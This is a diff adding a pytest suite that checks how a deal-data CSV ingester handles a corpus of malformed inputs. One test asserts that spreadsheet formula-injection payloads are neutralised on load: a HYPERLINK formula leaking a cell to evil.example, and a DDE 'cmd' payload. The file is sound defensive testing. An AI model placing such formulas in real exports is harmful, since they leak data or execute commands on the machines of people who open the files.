@@ -1,0 +1,186 @@
+"""The bad-input corpus: each file in tests/bad_inputs/ and its expected outcome, in one table.
+
+Every case loads `a_good.csv` (two good deals) and then the bad file, as one generic source over
+`*.csv`. A file that fails exits 2 with a one-line error and leaves the warehouse as the good file
+left it; a file that loads counts every row: read = loaded + rejected + excluded.
+"""
+
+from __future__ import annotations
+
+import json
+import shutil
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from tests.adapter_fixtures import batches, ingest, query
+from tests.conftest import GENERIC_CONFIG, write
+
+CORPUS = Path(__file__).resolve().parent / "bad_inputs"
+GOOD = """
+id,stage,created,closed,value,rep
+G1,Prospecting,2024-01-01,,100,Ann
+G2,Won,2024-01-02,2024-02-01,200,Bob
+"""
+# What the good file alone leaves: 2 deals with one snapshot and one current_only event each.
+GOOD_STATE = {
+    "deals": 2,
+    "deal_snapshots": 2,
+    "deal_stage_events": 2,
+    "stage_changes": 0,
+    "rejected_rows": 0,
+    "ingest_batches": 1,
+}
+TEN_MEGABYTES = 10 * 2**20
+
+
+@dataclass(frozen=True)
+class Outcome:
+    """exit code; for a loaded file (loaded, rejected, excluded) and the reasons of its rejects;
+    for a failed one a fragment of the error; `check` looks at what was loaded."""
+
+    exit_code: int
+    counts: tuple[int, int, int] | None = None
+    reasons: list[tuple[int, str]] = field(default_factory=list)  # (line, reason fragment)
+    error: str = ""
+    check: Callable[[Path], None] | None = None
+    warning: str = ""  # a fragment of a warning the load must log
+
+
+def _stage_orders(folder: Path) -> None:
+    assert query(
+        folder,
+        "select deal_id, stage, stage_order, status from deals "
+        "where deal_id not like 'G%' order by 1",
+    ) in (
+        [("U1", "Qualifikation", None, "open"), ("U2", "Prospecting", 1, "open")],
+        [("N1", "Demo", None, "open"), ("N2", "Demo", None, "open"), ("N3", "Proposal", 3, "open")],
+    )
+
+
+def _close_before_create_kept(folder: Path) -> None:
+    # Loaded as exported; the marts leave it out of cycle statistics (close before create).
+    assert query(
+        folder,
+        "select deal_id, status, created_at::date::varchar, closed_at::date::varchar "
+        "from deals where deal_id like 'C%' order by 1",
+    ) == [("C1", "won", "2024-03-01", "2024-02-01"), ("C2", "lost", "2024-01-01", "2024-02-01")]
+
+
+def _formulas_neutralised(folder: Path) -> None:
+    assert query(
+        folder, "select owner, name, account from deals where deal_id like 'F%' order by deal_id"
+    ) == [
+        ("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "'@SUM(1+1)",
+         "'+cmd|' /C calc'!A0"),
+        ("Ann Lee", "Acme - New", "Acme"),
+    ]  # fmt: skip
+
+
+def _big_field_cut_in_rejects(folder: Path) -> None:
+    raw = query(folder, "select raw_record from rejected_rows")[0][0]
+    assert len(raw) < 3000 and json.loads(raw)["id"] == "B1"
+
+
+CASES: dict[str, Outcome] = {
+    "empty.csv": Outcome(2, error="the file is empty"),
+    "header_only.csv": Outcome(2, error="has a header but no data rows"),
+    "binary.csv": Outcome(2, error="not a text export (binary content)"),
+    "truncated_last_line.csv": Outcome(
+        0, (3, 1, 0), [(5, "unquoted value: Value with unterminated quote found")]
+    ),
+    "wrong_separator.csv": Outcome(2, error="the whole header was read as one column"),
+    "mixed_separators.csv": Outcome(2, error="none of its 2 rows can be loaded (line 2: missing"),
+    "duplicate_ids.csv": Outcome(
+        0, (2, 1, 0), [(2, "duplicate deal_id 'D1': line 4 has the same id and was kept")]
+    ),
+    "unknown_stage.csv": Outcome(
+        0, (2, 0, 0), check=_stage_orders, warning="not in [pipeline] stages: 'Qualifikation' (1)"
+    ),
+    "stage_not_in_config.csv": Outcome(
+        0, (3, 0, 0), check=_stage_orders, warning="not in [pipeline] stages: 'Demo' (2)"
+    ),
+    "created_after_closed.csv": Outcome(0, (2, 0, 0), check=_close_before_create_kept),
+    "absurd_amounts.csv": Outcome(
+        0,
+        (1, 4, 0),
+        [
+            (2, "amount: -5 is not a plausible amount"),
+            (3, "amount: 1e309 is not a plausible amount"),
+            (4, "amount: NaN is not a plausible amount"),
+            (5, "amount: 1e15 is not a plausible amount"),
+        ],
+    ),
+    "dates_1900_2999.csv": Outcome(
+        0,
+        (1, 3, 0),
+        [
+            (2, "created_at: 1900-01-01 is outside 1980-2100"),
+            (3, "closed_at: 2999-12-31 is outside 1980-2100"),
+            (4, "closed_at: 2999-12-31 is outside 1980-2100"),  # an open deal's expected close
+        ],
+    ),
+    "formula_strings.csv": Outcome(0, (2, 0, 0), check=_formulas_neutralised),
+    # Generated (too big to keep in the repository): one 10 MB cell in the owner column.
+    "big_field.csv": Outcome(
+        0,
+        (1, 1, 0),
+        [(2, f"owner: {TEN_MEGABYTES} characters, longer than any real value")],
+        check=_big_field_cut_in_rejects,
+    ),
+}
+
+
+def _write_big_field(path: Path) -> None:
+    with path.open("w", encoding="utf-8") as fh:
+        fh.write("id,stage,created,closed,value,rep\n")
+        fh.write(f"B1,Prospecting,2024-01-01,,100,{'x' * TEN_MEGABYTES}\n")
+        fh.write("B2,Prospecting,2024-01-02,,100,Ann\n")
+
+
+def test_every_corpus_file_has_an_outcome() -> None:
+    on_disk = {p.name for p in CORPUS.iterdir()}
+    assert on_disk == set(CASES) - {"big_field.csv"}
+
+
+def _state(folder: Path) -> dict[str, int]:
+    return {t: query(folder, f"select count(*) from {t}")[0][0] for t in GOOD_STATE}
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_bad_input(
+    name: str,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    outcome = CASES[name]
+    write(tmp_path / "p.toml", GENERIC_CONFIG.format(history="").replace("deals.csv", "*.csv"))
+    write(tmp_path / "a_good.csv", GOOD)
+    bad = tmp_path / f"b_{name}"
+    if name == "big_field.csv":
+        _write_big_field(bad)
+    else:
+        shutil.copyfile(CORPUS / name, bad)
+
+    assert ingest(tmp_path) == outcome.exit_code
+    if outcome.exit_code:
+        error = capsys.readouterr().err.strip().splitlines()[-1]
+        assert bad.name in error and outcome.error in error
+        assert _state(tmp_path) == GOOD_STATE
+        return
+    good, loaded = batches(tmp_path)
+    assert good == ("a_good.csv", "deals", 2, 2, 0, 0)
+    assert loaded[0] == bad.name and tuple(loaded[3:]) == outcome.counts
+    reasons = query(
+        tmp_path,
+        "select source_row, reason from rejected_rows where batch_id = 2 order by source_row",
+    )
+    assert len(reasons) == len(outcome.reasons)
+    for (line, reason), (expected_line, fragment) in zip(reasons, outcome.reasons, strict=True):
+        assert line == expected_line and fragment in reason
+    if outcome.check:
+        outcome.check(tmp_path)
+    assert outcome.warning in caplog.text
